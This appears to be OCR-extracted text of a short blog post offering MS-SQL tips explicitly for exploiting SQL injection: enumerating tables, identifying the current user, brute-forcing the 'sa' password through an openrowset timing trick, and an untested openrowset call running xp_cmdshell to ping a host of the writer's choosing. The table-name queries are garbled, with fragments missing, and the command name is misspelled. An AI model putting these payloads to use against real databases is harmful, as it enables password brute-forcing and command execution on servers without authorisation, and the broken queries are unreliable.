Ten Cents

Some information about MS-SQL server. You may find this info useful for exploiting SQL injection:

Finding Table Names
Donot use:- Select name from sysobjects where xtype='U'
[WHERE table_schema = 'db_name']
[WHERE|AND table_name LIKE 'wild']
The first query will only return the table names which belong to current databases, however, the second query will return the the table names from other databases as well to which the current user has access to.

Getting Current User
Someone pointed this out that Select user will return the owner of the current database which may differ from the current user. So, system-user is alwayas correct to use.

Brute Forcing 'sa' User's Password
Use openrowset:-select null from openrowset('sqloledb','';'sa';'[password]','select 1;waitfor delay ''0:0:10'' ')

When the password supplied is correct the query 'select 1;waitfor delay ''0:0:10'' ' will get executed. As i write this blog, i am just wondering if we can execute something like this:

select null fromopenrowset('sqloledb','';'sa';'[password]','exec master..xp_cmshell ''ping my_host'''). I will confirm this sometime later.